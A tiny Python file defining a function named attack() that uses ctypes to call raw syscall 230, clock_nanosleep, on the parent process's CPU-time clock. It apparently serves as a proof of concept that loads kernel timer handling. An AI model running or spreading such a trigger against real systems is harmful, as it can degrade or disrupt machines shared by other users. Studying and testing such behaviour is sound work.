"""Sleep until another process has worked so long: it then looks at every tick whether somebody is to be woken."""
import ctypes
import os


def attack():
    moment = (ctypes.c_long * 2)(0, 1)
    libc = ctypes.CDLL(None, use_errno=True)
    clock = ctypes.c_int((~os.getppid() << 3) | 2)
    if libc.syscall(230, clock, 0, moment, None) < 0:
        raise OSError(ctypes.get_errno(), "clock_nanosleep")
